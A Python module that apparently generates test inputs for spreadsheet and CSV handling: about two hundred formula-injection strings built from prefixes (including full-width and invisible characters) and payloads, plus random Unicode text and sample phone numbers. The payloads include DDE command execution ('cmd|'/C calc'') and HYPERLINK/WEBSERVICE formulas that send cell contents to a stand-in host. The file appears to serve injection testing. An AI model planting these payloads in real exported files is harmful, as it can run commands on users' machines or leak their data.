"""Texts that break spreadsheets, or make them run: two hundred formulas, and any Unicode there is."""

import random
import unicodedata
from itertools import islice, product

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\ufeff=",
    "\u200b=",
    "\u00a0@",
    "\u3000+",
)
CALLS = (
    "1+1",
    'HYPERLINK("http://x.example?"&A1,"点击")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML("http://x.example","//a")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C notepad'!'A1'",
    'IMPORTDATA("http://x.example")',
    "1;=1+1",
    '1","=1+1',
    "1\n=1+1",
    "@SUM(1+1)",
)
FORMULAS = [start + call for call, start in islice(product(CALLS, STARTS), 200)]
PHONES = ("13800138000", "0871-65012345", "+86 138 0013 8000", "013800138000", "400-800-1234", "+1 202 555 0143")


def any_unicode(count: int) -> list[str]:
    """Texts of every plane, with controls and characters that are none; no halves of a pair, which nobody can send."""
    dice = random.Random(6)
    return ["".join(a_sign(dice) for _sign in range(dice.randrange(1, 40))) for _text in range(count)]


def a_sign(dice: random.Random) -> str:
    code = dice.choice(
        [dice.randrange(1, 0x20), dice.randrange(0x20, 0x3000), dice.randrange(0x3000, 0x110000), 0xFFFF]
    )
    return "长" if unicodedata.category(chr(code)) == "Cs" else chr(code)
